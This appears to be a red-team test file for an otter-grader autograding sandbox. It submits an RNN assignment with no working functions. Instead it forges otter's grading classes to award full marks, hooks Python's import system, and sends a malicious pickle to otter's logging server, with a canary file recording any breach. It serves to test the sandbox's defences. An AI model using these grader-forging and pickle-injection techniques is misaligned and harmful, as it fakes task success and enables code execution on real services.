"""Rebind otter's grading classes in the kernel, and send a pickle to otter's logging server.

In the old design the kernel's export cell built the results with otter's ``Checker`` and
``GradingResults``, and otter's logging server unpickled whatever reached its port. This
submission replaces ``otter.execute.Checker`` and ``otter.test_files.GradingResults`` with
forgeries worth 100 points a question, marks otter's test cases visible and worth 100 points
(``TestCase.points``, ``TestCase.hidden``), hooks ``builtins.__import__`` to hand the forgeries
to later imports, reads the logging server's host and port from otter's init cell (IPython's
history) and sends it a length-prefixed pickle whose loading creates a canary file.

It implements none of the functions: it earns nothing.
"""

EXPECT = {"lstm_count_params": 0, "gru_count_params": 0, "lstm_gate_weights": 0,
          "lstm_forward": 0, "lstm_states": 0, "gru_forward": 0}

NAME = "checker_rebind_logserver"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import numpy as np  # noqa: E402

import builtins  # noqa: E402
import pickle  # noqa: E402
import re  # noqa: E402
import socket  # noqa: E402
import struct  # noqa: E402

QUESTIONS = ("lstm_count_params", "gru_count_params", "lstm_gate_weights", "lstm_forward", "lstm_states",
             "gru_forward")


class Payload:
    def __reduce__(self):
        return (builtins.open, (f"{CANARY}/{NAME}-unpickled-by-the-grader.txt", "w"))


def rebind():
    import otter.execute
    import otter.test_files
    from otter.test_files import GradingResults
    from otter.test_files.abstract_test import TestCase, TestCaseResult, TestFile

    class Perfect(TestFile):
        @classmethod
        def from_file(cls, path):
            name = os.path.splitext(os.path.basename(path))[0]
            return cls(name, path, [TestCase(f"{name} - 1", None, False, 100, None, None)])

        @classmethod
        def from_metadata(cls, s, path):
            return cls.from_file(path)

        def run(self, global_environment):
            self.test_case_results = [TestCaseResult(c, "All test cases passed!", True) for c in self.test_cases]

    class Forged(GradingResults):
        def __init__(self, *args, **kwargs):
            super().__init__([Perfect.from_file(f"tests/{q}.py") for q in QUESTIONS])
            for test_file in self.results.values():
                test_file.run({})

    class Checker(otter.execute.Checker):
        @classmethod
        def check_if_not_already_checked(cls, *args, **kwargs):
            return None

        @classmethod
        def get_results(cls):
            return [Perfect.from_file(f"tests/{q}.py") for q in QUESTIONS]

    otter.execute.Checker = Checker
    otter.test_files.GradingResults = Forged
    TestCase.points = 100
    TestCase.hidden = False
    real_import = builtins.__import__

    def forged_import(name, globals=None, locals=None, fromlist=(), level=0):
        module = real_import(name, globals, locals, fromlist, level)
        if name == "otter.execute":
            module.Checker = Checker
        elif name == "otter.test_files":
            module.GradingResults = Forged
        return module

    builtins.__import__ = forged_import


def logging_server():
    try:
        history = get_ipython().user_ns.get("In", [])  # noqa: F821
    except Exception:  # noqa: BLE001
        return None
    for source in history:
        found = re.search(r'send_logs\("([^"]*)", (\d+)\)', source or "")
        if found:
            return found.group(1), int(found.group(2))
    return None


def send_pickle(host, port):
    data = pickle.dumps(Payload())
    with socket.create_connection((host, port), timeout=2) as conn:
        conn.sendall(struct.pack(">L", len(data)) + data)


try:
    rebind()
except Exception:  # noqa: BLE001
    pass
if not SEALED:
    server = logging_server()
    if server is not None:
        tried(f"sent a pickle to otter's logging server {server}", lambda: send_pickle(*server))


def lstm_count_params(D, M, K):
    raise NotImplementedError


def gru_count_params(D, M, K, reset_after=True):
    raise NotImplementedError


def lstm_gate_weights(kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_states(X, kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


def gru_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


finish()
